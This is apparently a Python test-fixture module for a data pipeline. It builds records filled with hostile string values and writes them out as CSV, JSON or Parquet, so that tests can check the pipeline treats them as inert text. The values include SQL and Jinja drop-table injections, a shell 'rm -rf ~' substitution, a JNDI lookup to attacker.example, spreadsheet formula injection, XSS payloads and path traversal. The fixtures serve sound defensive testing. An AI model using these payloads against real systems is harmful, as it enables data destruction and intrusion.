"""A small world of hostile and of marked records, for every contract, whatever its format.

Here: values that would do harm where data is taken for something else, and objects that hold them.
Not here: what has to become of them (`test_hostile_run.py`).
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import re
from collections.abc import Iterator, Mapping, Sequence
from typing import Any, Final

import pyarrow as pa
import pyarrow.parquet as pq

from cdp_assets.sources.contracts import Column, Contract

DAY: Final = "2026-03-01"
# What each would be to something that took it for more than a text.
VALUES: Final[Mapping[str, str]] = {
    "sql identifier": 'x"; drop table profile.customer_profiles; --',
    "sql text": "'; drop table profile.customer_profiles; --",
    "sql function": "$1 || (select version()) || read_text('/etc/passwd')",
    "jinja expression": "{{ env_var('HOME') }}",
    "jinja statement": "{% raw %}{% do run_query('drop schema profile cascade') %}",
    "python format": "{0.__class__.__mro__} %s %(x)s {x!r}",
    "shell": "$(rm -rf ~) `id` | sh",
    "lookup": "${jndi:ldap://attacker.example/a}",
    "formula": "=cmd|' /C calc'!A0",
    "formula plus": "+1+HYPERLINK(1)",
    "formula minus": "-1+1",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after tab": "\t=1+1",
    "formula after return": "\r=1+1",
    "formula full width": "＝1+1",
    "script": "<script>alert(1)</script>",
    "attribute": "\"><img src=x onerror=alert('1')>",
    "markdown": "![x](http://attacker.example/x.png) [y](javascript:alert(1))",
    "table": "a | b\n---|---\n",
    "code": "``` `x` \\`",
    "control": "\x1b[31mred\x07\x08",
    "separators": "a\x1fb\x1ec|d,e;f",
    "right to left": "\u202egnp.exe\u2066",
    "zero width": "A\u200b\u200d\ufeffnn",
    "emoji": "👩‍👩‍👧‍👦𝒵",
    "null word": "NULL",
    "nan word": "NaN",
    "path": "../../../../etc/passwd",
    "percent": "%2e%2e%2f%00",
    "backslash": "\\' \\\" \\\\",
}
_TEXTS: Final = ("text", "email", "phone")
_DEFAULTS: Final = {
    "integer": "1",
    "decimal": "1.00",
    "date": "1990-01-31",
    "timestamp": f"{DAY}T09:00:00.000Z",
    "boolean": "false",
}


def text_columns(contract: Contract) -> list[Column]:
    """The columns that take any text."""
    return [c for c in contract.columns if c.type in _TEXTS and not c.allowed]


def record(contract: Contract, values: Mapping[str, str]) -> dict[str, str]:
    """A record that the contract takes, with these values: column name to text."""
    made = {
        column.name: column.allowed[0] if column.allowed else _DEFAULTS[column.type]
        for column in contract.columns
        if column.allowed or column.type in _DEFAULTS
    }
    return {**made, **values}


def all_text(contract: Contract, value: str) -> dict[str, str]:
    """A record whose every text is this one."""
    return record(contract, {column.name: value for column in text_columns(contract)})


def as_object(contract: Contract, records: Sequence[Mapping[str, str]], *raw_lines: str) -> bytes:
    """The bytes of an object that holds these records, then these lines as they are."""
    file_format = contract.format
    if file_format.kind == "parquet":
        return _as_parquet(contract, records)
    if file_format.kind == "csv":
        text = _as_csv(contract, records)
    else:
        end = "\n" if file_format.framing == "lines" else ""
        text = "".join(_as_json(contract, each) + end for each in records)
    text += "".join(f"{line}\n" for line in raw_lines)
    content = text.encode(file_format.encoding)
    return gzip.compress(content, mtime=0) if file_format.compression == "gzip" else content


def header(contract: Contract) -> list[str]:
    """The header of each column."""
    return [column.paths[0] for column in contract.columns]


def _as_csv(contract: Contract, records: Sequence[Mapping[str, str]]) -> str:
    made = io.StringIO(newline="")
    writer = csv.writer(made, lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writerow(header(contract))
    writer.writerows([each.get(c.name, "") for c in contract.columns] for each in records)
    return made.getvalue()


def _as_json(contract: Contract, values: Mapping[str, str]) -> str:
    made: dict[str, Any] = {}
    for column in contract.columns:
        if column.name in values and column.type != "json":
            _put(made, list(_steps(column.paths[0])), values[column.name])
    return json.dumps(made, separators=(",", ":"))


def _steps(path: str) -> Iterator[str | int]:
    for name, index in re.findall(r"\.(\w+)|\[(\d+)\]", path):
        yield int(index) if index else name


def _put(made: Any, steps: list[Any], value: str) -> None:
    """Set a value below nested objects and lists, which are made where there are none."""
    for step, following in zip(steps, [*steps[1:], None], strict=True):
        inner: Any = value if following is None else [] if isinstance(following, int) else {}
        if isinstance(made, list):
            made += [inner] if len(made) <= step else []
        elif following is None or step not in made:
            made[step] = inner
        made = made[step]


def _as_parquet(contract: Contract, records: Sequence[Mapping[str, str]]) -> bytes:
    made = io.BytesIO()
    columns = {c.paths[0]: [each.get(c.name) for each in records] for c in contract.columns}
    schema = pa.schema([(name, pa.string()) for name in columns])
    pq.write_table(pa.table(columns, schema), made)
    return made.getvalue()
